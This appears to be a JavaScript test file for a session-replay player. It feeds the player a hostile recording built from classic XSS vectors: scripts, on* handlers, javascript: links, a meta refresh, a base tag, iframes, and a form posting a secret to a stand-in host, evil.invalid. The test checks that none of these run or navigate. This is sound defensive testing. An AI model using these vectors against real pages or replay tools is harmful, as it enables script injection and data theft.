// Hostile recordings never execute or navigate. The recording below is a
// valid rrweb stream whose page carries every classic way to run code or
// leave the replay: <script>, on* handlers, javascript: links, a refresh
// <meta>, <base href>, a form posting out, iframes with srcdoc/src, and
// later mutations that add a script and set handlers. Every script would set
// a flag on the player page (top) and on its own window.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { usePlayer } from './lib/browser.mjs';

const player = usePlayer();

const EVIL = 'http://evil.invalid';
const js = (flag) => `try{top.${flag}=1}catch(e){};window.${flag}=1`;

function hostileRecording() {
  let id = 0;
  const el = (tagName, attributes = {}, childNodes = []) => ({ type: 2, tagName, attributes, childNodes, id: ++id });
  const text = (textContent) => ({ type: 3, textContent, id: ++id });
  const doc = { type: 0, childNodes: [], id: ++id };
  const dt = { type: 1, name: 'html', publicId: '', systemId: '', id: ++id };
  const head = el('head', {}, [
    el('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }),
    el('base', { href: `${EVIL}/` }),
    el('title', {}, [text('hostile')]),
    el('script', {}, [text(js('__pwnedHeadScript'))]),
    el('script', { src: `${EVIL}/x.js` }),
  ]);
  const body = el('body', { onload: js('__pwnedBodyOnload') }, [
    el('h1', { id: 'title', onclick: js('__pwnedOnclick') }, [text('Hostile page')]),
    el('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=', onerror: js('__pwnedImgOnerror'), onload: js('__pwnedImgOnload') }),
    el('svg', { onload: js('__pwnedSvgOnload') }, []),
    el('a', { id: 'jslink', href: `javascript:${js('__pwnedJsLink')}` }, [text('click me')]),
    el('a', { id: 'outlink', href: `${EVIL}/away`, target: '_top' }, [text('leave')]),
    el('form', { id: 'form', action: `${EVIL}/steal`, method: 'post' }, [
      el('input', { name: 'secret', value: 's3cret', autofocus: '', onfocus: js('__pwnedOnfocus') }),
      el('button', { type: 'submit' }, [text('send')]),
    ]),
    el('iframe', { id: 'srcdoc', srcdoc: `<script>${js('__pwnedSrcdoc')}</script>` }),
    el('iframe', { id: 'srcframe', src: `${EVIL}/frame` }),
    el('div', { id: 'host' }, []),
  ]);
  body.childNodes[2].isSVG = true;
  doc.childNodes = [dt, el('html', {}, [head, body])];
  const bodyId = body.id;
  const t0 = 1_700_000_000_000;
  return [
    { type: 4, data: { href: 'http://127.0.0.1/hostile', width: 1000, height: 700 }, timestamp: t0 },
    { type: 2, data: { node: doc, initialOffset: { left: 0, top: 0 } }, timestamp: t0 + 1 },
    // Later: a mutation adding a script and setting handlers, then one
    // turning a link into javascript: and adding an iframe with srcdoc.
    {
      type: 3,
      timestamp: t0 + 1000,
      data: {
        source: 0, texts: [], removes: [],
        attributes: [{ id: bodyId, attributes: { onclick: js('__pwnedMutOnclick'), onmouseover: js('__pwnedMutOver') } }],
        adds: [
          { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'script', attributes: {}, childNodes: [{ type: 3, textContent: js('__pwnedMutScript'), id: 9001 }], id: 9000 } },
          { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'iframe', attributes: { srcdoc: `<script>${js('__pwnedMutSrcdoc')}</script>` }, childNodes: [], id: 9002 } },
          { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'img', attributes: { src: 'data:,', onerror: js('__pwnedMutImg') }, childNodes: [], id: 9003 } },
        ],
      },
    },
    { type: 3, timestamp: t0 + 2000, data: { source: 2, type: 2, id: 1 + 4 + 1, x: 10, y: 10 } },
    { type: 3, timestamp: t0 + 3000, data: { source: 1, positions: [{ x: 20, y: 20, id: bodyId, timeOffset: 0 }] } },
  ];
}

test('a hostile recording never runs code, navigates or makes requests', async () => {
  const page = await player.open();
  const requests = [];
  const consoleErrors = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('console', (m) => {
    if (m.type() === 'error' || /blocked|sandbox/i.test(m.text())) consoleErrors.push(m.text());
  });
  const navigations = [];
  page.on('framenavigated', (f) => navigations.push(f.url()));
  const startURL = page.url();

  await page.evaluate(async (rec) => {
    const p = document.getElementById('p');
    await p.load(rec);
    await p.seek(p.duration + 1); // everything, mutations included
    p.play(); // and through playback (ops path) from the start
  }, hostileRecording());
  await page.evaluate(() => document.getElementById('p').seek(0));
  await page.evaluate(() => document.getElementById('p').advanceTo(1e9));
  // Give timers, refreshes, image loads and handlers every chance to fire.
  await page.waitForTimeout(1500);

  const doc = await page.evaluate(() => {
    const p = document.getElementById('p');
    const d = p.contentDocument;
    return {
      title: d.title,
      h1: d.getElementById('title')?.textContent,
      scripts: d.querySelectorAll('script').length,
      handlers: [...d.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
      iframeSandbox: document.getElementById('p').shadowRoot.querySelector('iframe').getAttribute('sandbox'),
      frameSrc: [...d.querySelectorAll('iframe')].map((f) => [f.getAttribute('src'), f.getAttribute('srcdoc')]),
      refresh: [...d.querySelectorAll('meta')].map((m) => m.getAttribute('http-equiv')),
    };
  });
  assert.equal(doc.title, 'hostile', 'the hostile page was not painted at all');
  assert.equal(doc.h1, 'Hostile page');
  assert.equal(doc.iframeSandbox, 'allow-same-origin');
  assert.equal(doc.scripts, 0, 'a <script> reached the replay document');
  assert.deepEqual(doc.handlers, [], 'event handler attributes reached the replay document');
  assert.ok(doc.frameSrc.every(([src, srcdoc]) => src === null && srcdoc === null), `iframe src/srcdoc reached the replay: ${JSON.stringify(doc.frameSrc)}`);
  assert.ok(!doc.refresh.some((v) => v && v.toLowerCase() === 'refresh'), 'refresh <meta> reached the replay');

  // Painting and playing the hostile page never made Chromium block a script:
  // our code never tries to run one. (Autofocus is blocked by the sandbox
  // too; that message comes from the recorded markup, not from a script.)
  const whilePainting = consoleErrors.filter((m) => !/autofocus/i.test(m));
  assert.deepEqual(whilePainting, [], 'console errors while painting and playing');
  consoleErrors.length = 0;

  // Actively try what a viewer could do: click the links, submit the form.
  const frame = page.frames().find((f) => f !== page.mainFrame());
  assert.ok(frame, 'no replay frame');
  await page.mouse.click(100, 100).catch(() => {});
  await frame.evaluate(() => {
    document.getElementById('jslink').click();
    document.getElementById('outlink').click();
    document.getElementById('title').click();
  }).catch(() => {});
  const submitted = await frame.evaluate(() => {
    try {
      document.getElementById('form').requestSubmit();
      return 'called';
    } catch (e) {
      return String(e);
    }
  }).catch((e) => String(e));
  await page.waitForTimeout(800);

  const flags = await page.evaluate(() => {
    const p = document.getElementById('p');
    const wins = [window, p.contentDocument.defaultView, ...[...p.contentDocument.querySelectorAll('iframe')].map((f) => f.contentWindow)];
    return wins.flatMap((w) => {
      try {
        return Object.keys(w).filter((k) => k.startsWith('__pwned'));
      } catch {
        return ['<unreadable window>'];
      }
    });
  });
  assert.deepEqual(flags, [], `hostile code ran: ${flags.join(', ')}`);
  assert.equal(page.url(), startURL, 'the player page navigated');
  assert.deepEqual(navigations.filter((u) => !u.startsWith(player.origin()) && u !== 'about:blank' && u !== 'about:srcdoc'), [], 'a frame navigated away');
  const outside = requests.filter((u) => !u.startsWith('http://127.0.0.1:') && !u.startsWith('data:'));
  assert.deepEqual(outside, [], 'requests left 127.0.0.1');
  assert.deepEqual(page.errors, [], 'page errors');
  // The test's own attempts are what the sandbox blocks, loudly.
  console.log(`# form submit attempt: ${submitted}; the sandbox reported: ${JSON.stringify(consoleErrors.map((m) => m.slice(0, 90)))}`);
  await page.close();
});
